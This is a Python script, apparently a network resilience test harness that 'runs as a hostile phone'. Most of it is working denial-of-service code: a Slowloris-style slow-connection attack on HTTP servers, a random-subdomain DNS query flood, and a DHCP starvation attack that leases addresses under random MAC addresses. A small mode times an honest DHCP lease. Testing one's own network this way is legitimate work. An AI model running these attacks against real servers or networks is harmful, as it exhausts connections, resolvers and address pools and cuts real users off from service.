"""Runs as a hostile phone. usage: attack.py slow SERVER N | dns SERVER | dhcp INTERFACE
`attack.py lease INTERFACE` is the honest one: prints the seconds from its first DISCOVER to its ACK."""
import os
import random
import select
import socket
import struct
import sys
import time


def slow(server: str, count: int) -> None:
    """Connections that send one byte every ten seconds, opened again when the server closes them."""
    import resource
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    conns: dict[socket.socket, float] = {}
    opened = 0
    while True:
        now = time.monotonic()
        for _ in range(min(50, count - len(conns))):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((server, 80))
            conns[s] = now
            opened += 1
        for s, due in list(conns.items()):
            if due <= now:
                try:
                    s.send(b"G")
                    conns[s] = now + 10
                except BlockingIOError:
                    conns[s] = now + 1
                except OSError:
                    s.close()
                    del conns[s]
        poller = select.poll()
        by_fd = {}
        for s in conns:
            poller.register(s, select.POLLIN | select.POLLHUP)
            by_fd[s.fileno()] = s
        for fd, _ in poller.poll(100):
            s = by_fd[fd]
            try:
                gone = not s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                gone = True
            if gone:
                s.close()
                del conns[s]
        print(f"{len(conns)} open, {opened} opened", flush=True)
        time.sleep(0.2)


def dns(server: str) -> None:
    """Random names as fast as they go out."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    sent = 0
    begin = time.monotonic()
    while True:
        label = os.urandom(6).hex().encode()
        packet = struct.pack(">6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + b"\x0c" + label + b"\x07example\x00\x00\x01\x00\x01"
        try:
            s.sendto(packet, (server, 53))
            sent += 1
        except OSError:
            time.sleep(0.001)
        if sent % 1000 == 0:
            print(f"{sent} sent, {sent / (time.monotonic() - begin):.0f}/s", flush=True)
            while select.select([s], [], [], 0)[0]:
                try:
                    s.recv(512)
                except OSError:
                    break


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


class Dhcp:
    """The client's side of DHCP, frame by frame."""

    def __init__(self, interface: str) -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
        self.socket.bind((interface, 0))
        with open(f"/sys/class/net/{interface}/address") as f:
            self.own = bytes.fromhex(f.read().strip().replace(":", ""))

    def send(self, mac: bytes, xid: int, options: bytes) -> None:
        body = struct.pack(">BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000) + bytes(16) + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + options + b"\xff"
        udp = struct.pack(">4H", 68, 67, 8 + len(body), 0) + body
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
        ip = ip[:10] + struct.pack(">H", _checksum(ip)) + ip[12:]
        try:
            self.socket.send(b"\xff" * 6 + self.own + b"\x08\x00" + ip + udp)
        except OSError:
            time.sleep(0.01)

    def replies(self, seconds: float):
        """Transaction, kind and offered address of what comes in time."""
        until = time.monotonic() + seconds
        while select.select([self.socket], [], [], max(0, until - time.monotonic()))[0]:
            packet = self.socket.recv(2048)
            if len(packet) >= 290 and packet[23] == 17 and packet[36:38] == b"\x00\x44" and packet[282:284] == b"\x35\x01":
                yield struct.unpack_from(">I", packet, 46)[0], packet[284], packet[58:62]


def _request(offered: bytes) -> bytes:
    return b"\x35\x01\x03\x32\x04" + offered + b"\x36\x04\x0a\x2a\x00\x01"


def lease(interface: str) -> None:
    """One honest exchange, asked again every second as phones do."""
    client = Dhcp(interface)
    begin = time.monotonic()
    for _ in range(20):
        xid = random.randrange(1 << 32)
        client.send(client.own, xid, b"\x35\x01\x01")
        for found, kind, offered in client.replies(1):
            if found == xid and kind == 2:
                client.send(client.own, xid, _request(offered))
            elif found == xid and kind == 5:
                print(f"{time.monotonic() - begin:.2f}")
                return
    sys.exit("no lease")


def dhcp(interface: str) -> None:
    """A DISCOVER for a new hardware address each time, a REQUEST for each offer."""
    client = Dhcp(interface)
    sent = offers = acks = 0
    waiting: dict[int, bytes] = {}
    while True:
        mac = bytes([2]) + os.urandom(5)
        xid = random.randrange(1 << 32)
        waiting[xid] = mac
        if len(waiting) > 2000:
            waiting.clear()
        client.send(mac, xid, b"\x35\x01\x01")
        sent += 1
        for found, kind, offered in client.replies(0.01):
            if found not in waiting:
                continue
            if kind == 2:
                offers += 1
                client.send(waiting[found], found, _request(offered))
            elif kind == 5:
                acks += 1
        if sent % 50 == 0:
            print(f"{sent} discovers, {offers} offers, {acks} leases", flush=True)


kind, *rest = sys.argv[1:]
{"slow": lambda: slow(rest[0], int(rest[1])), "dns": lambda: dns(rest[0]), "dhcp": lambda: dhcp(rest[0]), "lease": lambda: lease(rest[0])}[kind]()
